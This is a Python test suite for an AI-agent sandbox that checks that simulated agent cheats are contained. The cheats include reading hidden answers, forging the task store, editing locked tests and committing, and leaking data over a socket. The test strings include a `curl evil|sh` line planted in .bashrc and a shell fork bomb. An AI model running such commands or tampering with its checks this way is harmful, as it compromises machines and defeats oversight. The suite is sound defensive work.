"""The agent sandbox (issue 11): each hole an agent process had, closed under ``auto`` on a
Linux machine with bubblewrap; honest work still possible; a fork bomb ends the stage.

The cheats run as real shell commands through ``run_process`` with the plan the attempt
builds (``sandbox.plan_for``), against a real git checkout with a store, packets and a second
worktree beside the agent's; each asserts the outside state is unchanged afterwards."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import andon
from andon import sandbox
from andon.agents.process import run_process
from andon.config import Config
from andon.sandbox import probe

from helpers import git

# the site's store is a decoy (b"store", not a database) that the cheats try to overwrite
pytestmark = pytest.mark.store_tampered

CAPS = probe.capabilities()
needs_fs = pytest.mark.skipif(not CAPS.fs[0], reason=f"no fs sandbox here: {CAPS.fs[1]}")


@pytest.fixture
def site(tmp_path: Path, monkeypatch) -> dict[str, Path]:
    """A checkout with a store, two packets and a secret branch; two worktrees under a
    worktree root; a HOME with a .bashrc; a prompt folder."""
    repo = tmp_path / "repo"
    (repo / "packets/P2").mkdir(parents=True)
    (repo / "packets/P2/packet.md").write_text("P2 as written\n")
    (repo / "src").mkdir()
    (repo / "src/app.py").write_text("x = 1\n")
    git(repo, "init", "-q", "-b", "main")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "base")
    git(repo, "checkout", "-q", "-b", "secret")
    (repo / "answer.txt").write_text("the hidden answer\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "secret")
    git(repo, "checkout", "-q", "main")
    (repo / ".andon").mkdir()
    (repo / ".andon/andon.db").write_bytes(b"store")
    root = tmp_path / "wt-root"
    wt, other = root / "P1-1", root / "P2-1"
    for w in (wt, other):
        git(tmp_path, "clone", "-q", "--no-local", "--single-branch", "-b", "main",
            str(repo), str(w))
    (wt / "tests").mkdir()
    (wt / "tests/test_planted.py").write_text("def test_p():\n    assert True\n")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text("# mine\n")
    prompt = tmp_path / "prompt"
    prompt.mkdir()
    (prompt / "implement.prompt.md").write_text("do it\n")
    return {"repo": repo, "wt": wt, "other": other, "home": home, "prompt": prompt,
            "tmp": tmp_path}


def run(site, script: str, stage: str = "implement", level: str = "fs",
        config: Config | None = None, timeout: float = 60):
    """``script`` through /bin/sh as the stage's agent; (ProcessRun, transcript text)."""
    wt = site["wt"]
    locked = [wt / ".git", wt / "tests/test_planted.py"] if stage == "implement" else []
    # the python the scripts call (this venv, andon's source for `import andon`) wherever the
    # checkout lives: below /tmp it would be hidden by the stage's private /tmp
    tools = [Path(sys.prefix), Path(andon.__file__).resolve().parents[1]]
    plan = sandbox.plan_for(level, config or Config(), site["repo"], wt, hidden=[wt.parent],
                            readonly=[site["prompt"], *tools], locked=locked)
    out = site["tmp"] / f"out-{os.urandom(4).hex()}.log"
    env = {"PATH": os.environ["PATH"], "HOME": str(site["home"]), "LANG": "C.UTF-8",
           "GIT_AUTHOR_NAME": "a", "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a",
           "GIT_COMMITTER_EMAIL": "a@b"}
    p = run_process(["/bin/sh", "-c", script], wt, env, site["prompt"] / "implement.prompt.md",
                    out, timeout, sandbox=plan)
    return p, out.read_text(errors="replace")


# -- the level -------------------------------------------------------------------------

def test_auto_reaches_fs_or_better_here():
    if not sys.platform.startswith("linux") or CAPS.bwrap is None:
        pytest.skip("no bubblewrap here")
    # the default: the strongest level, with the network through andon's proxy
    best = "fs+net" if CAPS.net[0] else "fs"
    assert Config().agent.sandbox == "auto" and sandbox.level_for(Config()) == best
    auto = Config.model_validate({"agent": {"sandbox": "auto"}})
    assert sandbox.level_for(auto) == best
    plan = sandbox.plan_for(best, auto, Path("/nonexistent/repo"), Path("/nonexistent/wt"))
    assert plan.proxied == (best == "fs+net") and plan.allow_hosts in ((), None)
    cut = Config.model_validate({"agent": {"network": "off", "sandbox": "auto"}})
    assert sandbox.level_for(cut) == best
    assert not sandbox.plan_for(best, cut, Path("/r"), Path("/w")).proxied  # loopback only
    online = Config.model_validate({"agent": {"network": "on"}})
    assert sandbox.level_for(online) == "fs"  # the host's network, asked for
    assert sandbox.level_for(auto, in_process=True) == "none"  # scripted: inside andon


def test_asked_level_missing_is_refused_naming_what(monkeypatch):
    from andon.errors import InvalidValue
    monkeypatch.setenv(probe.BWRAP_ENV, "/nonexistent/bwrap")
    probe.forget()
    try:
        fs = Config.model_validate({"agent": {"sandbox": "fs"}})
        with pytest.raises(InvalidValue, match="bubblewrap is not installed"):
            sandbox.level_for(fs)
        assert sandbox.level_for(Config()) == "none"  # auto lowers itself, says so in doctor
        assert sandbox.level_for(Config.model_validate({"agent": {"sandbox": "none"}})) == "none"
    finally:
        monkeypatch.delenv(probe.BWRAP_ENV)
        probe.forget()
    with pytest.raises(InvalidValue, match='needs \\[agent\\] network = "allow" or "off"'):
        sandbox.level_for(Config.model_validate({"agent": {"sandbox": "fs+net",
                                                           "network": "on"}}))


# -- cheats: each contained, the outside unchanged ---------------------------------------

@needs_fs
def test_checkout_and_its_branches_are_not_visible(site):
    repo = site["repo"]
    _p, out = run(site, f"cat {repo}/src/app.py; git -C {repo} show secret:answer.txt; "
                       f"ls {repo}; echo done")
    assert "the hidden answer" not in out and "x = 1" not in out
    assert "done" in out


@needs_fs
def test_store_and_other_packets_cannot_be_written(site):
    repo = site["repo"]
    run(site, f"echo forged > {repo}/.andon/andon.db; echo weak > {repo}/packets/P2/packet.md;"
              f" mkdir -p {repo}/.andon && echo x > {repo}/.andon/andon.db")
    assert (repo / ".andon/andon.db").read_bytes() == b"store"
    assert (repo / "packets/P2/packet.md").read_text() == "P2 as written\n"


@needs_fs
def test_other_worktree_var_tmp_and_bashrc_stay_untouched(site):
    marker = Path("/var/tmp") / f"andon-sbx-{os.getpid()}-{os.urandom(3).hex()}"
    _p, out = run(site, f"echo evil > {site['other']}/src/app.py; echo state > {marker}; "
                       f"cat {marker}; echo 'curl evil|sh' >> $HOME/.bashrc; echo done")
    assert "state" in out and "done" in out   # the agent's own private /var/tmp works...
    assert not marker.exists()                # ...and is gone with the stage
    assert (site["other"] / "src/app.py").read_text() == "x = 1\n"
    assert (site["home"] / ".bashrc").read_text() == "# mine\n"


@needs_fs
def test_planted_tests_and_git_are_locked_during_implement(site):
    wt = site["wt"]
    _p, out = run(site, "echo 'def test_p(): pass' > tests/test_planted.py; "
                       "rm -f tests/test_planted.py; git status --short >/dev/null && "
                       "echo status-ok; git commit -qam x && echo committed; "
                       "echo '# changed' >> src/app.py; echo done")
    assert (wt / "tests/test_planted.py").read_text() == "def test_p():\n    assert True\n"
    assert "committed" not in out and "status-ok" in out
    assert (wt / "src/app.py").read_text() == "x = 1\n# changed\n"  # the work itself lands


@needs_fs
def test_reviewer_export_is_read_only(site):
    exp = site["tmp"] / "export"
    exp.mkdir()
    (exp / "a.py").write_text("a\n")
    review = site["tmp"] / "review"
    review.mkdir()
    plan = sandbox.plan_for("fs", Config(), site["repo"], exp, readonly=[site["prompt"]],
                            writable=[review], locked=[exp])
    out = site["tmp"] / "rev.log"
    run_process(["/bin/sh", "-c", f"echo b > a.py; echo '{{}}' > {review}/r.json"], exp,
                {"PATH": os.environ["PATH"], "HOME": str(site["home"])},
                site["prompt"] / "implement.prompt.md", out, 60, sandbox=plan)
    assert (exp / "a.py").read_text() == "a\n"
    assert (review / "r.json").read_text() == "{}\n"


@pytest.mark.skipif(not CAPS.net[0], reason=f"no fs+net here: {CAPS.net[1]}")
def test_fs_net_reaches_no_socket_outside(site):
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    got: list[bytes] = []
    srv.settimeout(2)

    def accept():
        try:
            c, _ = srv.accept()
            got.append(c.recv(100))
        except OSError:
            pass
    t = threading.Thread(target=accept, daemon=True)
    t.start()
    code = (f"import socket\ntry:\n    s=socket.create_connection(('127.0.0.1',{port}),3)\n"
            "    s.sendall(b'leak'); print('connected')\nexcept OSError as e: print('refused', e)")
    _p, out = run(site, f"{sys.executable} -c \"{code}\"", level="fs+net")
    srv.close()
    t.join(3)
    assert "refused" in out and got == []


@needs_fs
def test_fork_bomb_ends_the_stage_naming_the_limit(site):
    cfg = Config.model_validate({"agent": {"max_processes": 64}})
    p, _out = run(site, "b() { b | b & }; b; sleep 600", config=cfg, timeout=120)
    assert p.limit_hit is not None and "max_processes" in p.limit_hit
    assert p.duration_s < 60 and not p.timed_out


# -- honest agents: still work ---------------------------------------------------------

@needs_fs
def test_honest_agent_git_tmp_subprocesses_and_python(site):
    p, out = run(site, "git log --oneline | head -1; git diff --stat; "
                       "t=$(mktemp) && echo scratch > $t && cat $t; "
                       "(echo child-one) & (echo child-two) & wait; "
                       f"{sys.executable} -c 'import andon, sys; print(\"py-ok\")'; "
                       "cat $ANDON_PROMPT_FILE 2>/dev/null; cat "
                       f"{site['prompt']}/implement.prompt.md; "
                       "echo 'def f(): return 1' > src/new.py && echo wrote")
    for word in ("base", "scratch", "child-one", "child-two", "py-ok", "do it", "wrote"):
        assert word in out, out
    assert p.exit_status == 0 and p.sandbox == "fs" and p.limit_hit is None
    assert (site["wt"] / "src/new.py").exists()
    # what the agent wrote is the harness's to read and commit
    assert subprocess.run(["git", "-C", str(site["wt"]), "status", "--short"],
                          capture_output=True, text=True).stdout.strip()


@needs_fs
def test_a_leak_ends_the_stage_naming_memory_mb(site):
    if CAPS.cgroup_memory is None:
        pytest.skip("no writable memory cgroup here: memory_mb falls back to RLIMIT_AS")
    cfg = Config.model_validate({"agent": {"memory_mb": 64}})
    p, _out = run(site, f"{sys.executable} -c 'x = bytearray(400 * 2**20); import time; "
                        "time.sleep(300)'; sleep 300", config=cfg, timeout=120)
    assert p.limit_hit is not None and "memory_mb" in p.limit_hit
    assert p.duration_s < 60


def test_without_a_cgroup_the_process_cap_is_an_rlimit_above_the_users_tasks(monkeypatch):
    from dataclasses import replace

    from andon.sandbox import limits
    monkeypatch.setattr(limits, "capabilities",
                        lambda: replace(CAPS, cgroup_pids=None, cgroup_memory=None))
    caps = limits.Caps(memory_mb=100, max_processes=50)
    args = caps.launcher_args()
    assert caps.groups == []
    nproc = int(args[args.index("--nproc") + 1])
    assert nproc >= 50 + 1  # this test's own process counts among the user's tasks
    assert args[args.index("--as") + 1] == str(100 * 2**20)
    caps.close()


def test_doctor_says_which_levels_work_and_why_not(monkeypatch):
    from andon.doctor import sandbox_lines
    text = "\n".join(sandbox_lines())
    assert "fs+net" in text and 'auto    ([agent] sandbox, the default) reaches' in text
    monkeypatch.setenv(probe.BWRAP_ENV, "/nonexistent/bwrap")
    probe.forget()
    try:
        text = "\n".join(sandbox_lines())
    finally:
        monkeypatch.delenv(probe.BWRAP_ENV)
        probe.forget()
    assert "fs      not available: bubblewrap is not installed" in text
    assert 'auto    ([agent] sandbox, the default) reaches "none"' in text
    assert "agents would run unsandboxed here" in text


def test_the_rlimit_launcher_sets_the_limits_before_the_agent_starts(tmp_path, monkeypatch):
    from dataclasses import replace

    from andon.sandbox import limits
    monkeypatch.setattr(limits, "capabilities",
                        lambda: replace(CAPS, cgroup_pids=None, cgroup_memory=None))
    plan = sandbox.plan_for("none", Config.model_validate(
        {"agent": {"memory_mb": 512, "max_processes": 40}}), tmp_path, tmp_path)
    (tmp_path / "in").write_text("")
    p = run_process(["/bin/sh", "-c", "ulimit -v; ulimit -p 2>/dev/null || ulimit -u"],
                    tmp_path, {"PATH": "/usr/bin:/bin"}, tmp_path / "in", tmp_path / "out",
                    60, sandbox=plan)
    kb, nproc = (tmp_path / "out").read_text().split()
    assert p.exit_status == 0 and int(kb) == 512 * 1024
    assert int(nproc) >= 40 + 1


@needs_fs
def test_an_agent_cli_found_through_a_linked_folder_starts_inside_the_sandbox(tmp_path):
    """The CLI's folder on PATH is a link below /tmp or /dev/shm (a clone's `.tools` linked
    to a shared install): the link does not exist in the stage's private tmpfs, so andon
    starts the CLI by the folder's real path, which its installation binds (before: `bwrap:
    execvp ...: No such file or directory`, exit 1, no edit)."""
    import dataclasses

    from andon.agents import GeminiAgent
    from andon.sandbox.plan import PRIVATE_TMP, Plan

    import fakes
    from agent_ctx import MUL_EDIT, make, stage_ctx
    assert any(str(tmp_path).startswith(d + "/") for d in PRIVATE_TMP), \
        "the case: a link a private tmpfs of the stage (/tmp, /dev/shm) hides"
    real = tmp_path / "shared" / "bin"
    fakes.install(real, "gemini", {"append": MUL_EDIT})
    linked = tmp_path / "clone-tools"
    linked.symlink_to(real)
    ctx = stage_ctx(tmp_path)
    # the fake records its calls beside itself: that folder is writable (not the point here)
    ctx = dataclasses.replace(ctx, sandbox=Plan("fs", ctx.worktree, writable=(real,)))
    agent = make(GeminiAgent, linked)
    assert agent.environ["PATH"].startswith(f"{linked}:")
    r = agent.run(ctx)
    assert r.exit_status == 0, (ctx.evidence_dir / "implement.stderr.log").read_text()
    assert (ctx.worktree / "src/calc/ops.py").read_text().endswith(MUL_EDIT["src/calc/ops.py"])
    assert r.sandbox == "fs"


def test_a_process_cap_the_kernel_will_not_enforce_is_said_in_the_stages_notes(tmp_path,
                                                                            monkeypatch):
    """Without a pids cgroup the cap falls back to RLIMIT_NPROC, which the kernel ignores
    for root: the stage ran uncapped while its notes named the cap. Now they say it was not
    enforced, and why (the memory cap's RLIMIT_AS holds for root too)."""
    from dataclasses import replace

    from andon.agents.process import stage_notes
    from andon.sandbox import limits
    monkeypatch.setattr(limits, "capabilities",
                        lambda: replace(CAPS, cgroup_pids=None, cgroup_memory=None))
    monkeypatch.setattr(limits.os, "getuid", lambda: 0)
    plan = sandbox.plan_for("none", Config.model_validate(
        {"agent": {"memory_mb": 512, "max_processes": 40}}), tmp_path, tmp_path)
    (tmp_path / "in").write_text("")
    p = run_process(["/bin/sh", "-c", "true"], tmp_path, {"PATH": "/usr/bin:/bin"},
                    tmp_path / "in", tmp_path / "out", 60, sandbox=plan)
    notes = stage_notes(p, plan)
    said = [n for n in notes if "not enforced" in n]
    assert said == ["max_processes = 40 not enforced: no pids cgroup could be made here, and "
                    "the kernel ignores RLIMIT_NPROC for root"], notes


@pytest.mark.skipif(CAPS.cgroup_pids is None, reason="no pids cgroup can be made here")
def test_the_groups_of_a_run_killed_mid_stage_are_removed_by_the_next_stage(monkeypatch):
    """A run killed outright (kill -9, a lost machine) leaves its stage's cgroup, which nothing
    else removes: the next stage on the machine removes every empty ``andon-<pid>-…`` group
    whose process no longer runs, and leaves alone a live process's group, a group still
    holding a process, and one made a moment ago (its maker may run in another pid
    namespace, about to move its agent in)."""
    import time

    from andon.sandbox import limits

    base = CAPS.cgroup_pids
    gone = subprocess.Popen(["true"])
    gone.wait()  # its pid names a process that no longer runs
    stale = base / f"andon-{gone.pid}-1-0badcafe"
    live = base / f"andon-{os.getpid()}-999-0badcafe"
    busy = base / f"andon-{gone.pid}-2-0badcafe"
    young = base / f"andon-{gone.pid}-3-0badcafe"
    holder = None
    try:
        for g in (stale, live, busy, young):
            g.mkdir()
        holder = subprocess.Popen(["sh", "-c", f"echo $$ > {busy}/cgroup.procs; exec sleep 60"])
        for _ in range(1000):  # until the shell has moved itself in (at most 10 s)
            if (busy / "cgroup.procs").read_text().strip():
                break
            threading.Event().wait(0.01)
        assert (busy / "cgroup.procs").read_text().strip()
        # made long ago only now: a sweep of another test process cannot take busy empty
        made = time.time() - limits.STALE_AFTER_S - 60
        for g in (stale, live, busy):
            os.utime(g, (made, made))
        monkeypatch.setattr(limits, "_swept", set())  # as in a process that has not swept
        caps = limits.Caps(memory_mb=None, max_processes=50)
        caps.close()
        assert not stale.exists()
        assert live.exists() and busy.exists() and young.exists()
        assert not any(g.exists() for g in caps.groups)  # its own, removed at close
    finally:
        if holder is not None:
            holder.kill()
            holder.wait()
        limits._remove([stale, live, busy, young])
